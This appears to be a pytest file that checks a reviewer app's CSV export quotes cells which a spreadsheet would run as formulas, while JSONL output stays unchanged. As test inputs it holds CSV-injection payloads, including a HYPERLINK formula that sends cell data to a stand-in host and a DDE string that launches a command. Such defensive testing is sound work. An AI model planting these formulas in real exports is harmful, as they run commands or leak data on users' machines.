"""Exported CSV cells never run as spreadsheet formulas (OWASP's CSV-injection rule); JSONL is unchanged."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine

from reviewer_app.batches.loading import load_batch
from reviewer_app.domain.csv_safety import neutralise_cell
from reviewer_app.ratings.export import export_ratings
from reviewer_app.ratings.files import import_ratings
from tests.helpers import RATING_RUBRIC, write_batch, write_rubric


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ('=HYPERLINK("http://x.invalid/?"&A1)', '\'=HYPERLINK("http://x.invalid/?"&A1)'),
        ("-", "'-"),
        ("-3", "-3"),
        ("-0.5", "-0.5"),
        ("+4", "+4"),
        ("-1e3", "-1e3"),
        ("-.5", "-.5"),
        ("-1 ", "'-1 "),
        ("-١", "'-١"),  # an Arabic-Indic digit is not a number to a spreadsheet
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (-0.5, -0.5),
        (None, None),
        (True, True),
    ],
)
def test_neutralise_cell(value: object, expected: object) -> None:
    assert neutralise_cell(value) == expected


EVIL = {
    "sample": '=HYPERLINK("http://x.invalid","s")',
    "scenario": "@SUM(1+1)",
    "model": "+cmd|' /C calc'!A0",
    "reviewer": "-2+3",
}


def test_ratings_csv_export_neutralises_names_and_jsonl_keeps_them(engine: Engine, tmp_path: Path) -> None:
    records = [
        {
            "sample_id": EVIL["sample"],
            "scenario": EVIL["scenario"],
            "prompt": "Q?",
            "model": model,
            "output": "An answer.",
        }
        for model in (EVIL["model"], "plain")
    ]
    load_batch(
        engine,
        [write_batch(tmp_path, records)],
        write_rubric(tmp_path, RATING_RUBRIC.format(overlap=1)),
        name="b",
        open_now=True,
    )
    ratings = tmp_path / "r.csv"
    with ratings.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["reviewer", "sample_id", "model", "dimension", "score"])
        writer.writerow([EVIL["reviewer"], EVIL["sample"], EVIL["model"], "correctness", "4"])
    import_ratings(engine, "b", ratings)

    out = io.StringIO()
    export_ratings(engine, "b", "csv", None, stream=out)
    (row,) = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["sample_id"] == "'" + EVIL["sample"]
    assert row["scenario"] == "'" + EVIL["scenario"]
    assert row["model"] == "'" + EVIL["model"]
    assert row["reviewer"] == "'" + EVIL["reviewer"]
    assert row["score"] == "4"  # numbers untouched
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip("+-").replace(".", "").isdigit()

    out = io.StringIO()
    export_ratings(engine, "b", "jsonl", None, stream=out)
    (record,) = [json.loads(line) for line in out.getvalue().splitlines()]
    assert (record["sample_id"], record["scenario"], record["model"], record["reviewer"]) == (
        EVIL["sample"],
        EVIL["scenario"],
        EVIL["model"],
        EVIL["reviewer"],
    )
